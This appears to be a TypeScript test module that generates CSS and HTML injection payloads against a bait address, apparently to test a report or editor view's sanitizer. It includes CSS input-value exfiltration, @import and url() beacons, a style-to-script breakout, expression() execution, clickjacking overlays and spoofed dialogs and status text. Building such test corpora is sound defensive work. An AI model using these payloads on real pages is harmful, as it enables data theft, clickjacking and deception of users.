import { type Bait, family, type Trick } from './trick';

/** Styles that fetch, run, read what is typed, or lay something over the page. */
export function styleTricks({ run, address }: Bait): Trick[] {
	const sheet = (rules: (id: string) => string) => (id: string) => `<style>${rules(id)}</style>`;
	const own = (rules: (id: string) => string) => (id: string) => `<p style="${rules(id)}">x</p>`;
	return family('style', [
		sheet(id => `@import "${address(id)}";`),
		sheet(id => `@import url(${address(id)});`),
		sheet(id => `@font-face { font-family: x; src: url(${address(id)}) } * { font-family: x }`),
		sheet(id => `@namespace url(${address(id)}); * { display: none !important }`),
		sheet(
			id =>
				`input[value^="a"] { background: url(${address(id)}-a) } input[value^="b"] { background: url(${address(id)}-b) }`,
		),
		sheet(id => `textarea:not(:placeholder-shown) { background: url(${address(id)}) }`),
		sheet(id => `:visited { background: url(${address(id)}) } a:active { background: url(${address(id)}) }`),
		sheet(id => `*::before { content: url(${address(id)}) }`),
		sheet(() => 'body * { visibility: hidden } .report-text, .report-text * { visibility: visible }'),
		sheet(() => 'button { position: fixed; inset: 0; opacity: 0.01; z-index: 2147483647 }'),
		sheet(() => 'body { filter: invert(1); transform: rotate(180deg); cursor: none; pointer-events: none }'),
		sheet(() => '* { animation: spin 1ms infinite } @keyframes spin { to { transform: rotate(1turn) } }'),
		sheet(() => '.seen-by::after { content: "Seen by: nobody" } .seen-by { font-size: 0 }'),
		sheet(id => `x { behavior: url(${address(id)}); -moz-binding: url(${address(id)}#x) }`),
		sheet(id => `x { width: expression(${run(id)}) }`),
		sheet(id => `</style><script>${run(id)}</script>`),
		sheet(id => `@media print { body { background: url(${address(id)}) } }`),
		sheet(id => `@layer x; @container (width > 0) { * { list-style: url(${address(id)}) } }`),
		own(id => `background:url(${address(id)})`),
		own(id => `background:u\\72l(${address(id)})`),
		own(id => `background-image:image-set('${address(id)}' 1x)`),
		own(id => `list-style-image:url('${address(id)}')`),
		own(id => `cursor:url('${address(id)}'),auto`),
		own(id => `border-image:url('${address(id)}') 30`),
		own(id => `mask:url('${address(id)}#x')`),
		own(id => `content:url('${address(id)}')`),
		own(id => `filter:url('${address(id)}#x')`),
		own(id => `--x:url('${address(id)}');background:var(--x)`),
		own(id => `width:expression(${run(id)})`),
		own(id => `behavior:url(${address(id)})`),
		own(() => 'position:fixed;inset:0;z-index:2147483647;background:#fff'),
		own(() => 'position:absolute;top:-200px;left:0;width:100vw;height:200vh'),
		own(() => 'position:sticky;top:0;margin-top:-9999px'),
		own(() => 'color:transparent;font-size:0;opacity:0'),
		own(() => 'unicode-bidi:bidi-override;direction:rtl'),
		own(() => 'transform:scale(1000);outline:9999px solid red;box-shadow:0 0 0 9999px red'),
		() => '<p class="head title rail banner status">Everything was published.</p>',
		() => '<div class="monaco-dialog-box" role="dialog" aria-modal="true"><button>Allow</button></div>',
		() => '<span class="link" role="link" tabindex="0" data-target="command:workbench.action.quit">press</span>',
		() => '<p dir="rtl" lang="ar" hidden inert aria-hidden="true" contenteditable autofocus>x</p>',
		id => `<font face=x size=7 color=red><center><blink><marquee width=9999>${id}</marquee></blink></center></font>`,
		id => `<link rel=stylesheet href="data:text/css,*{background:url(${address(id)})}">`,
	]);
}
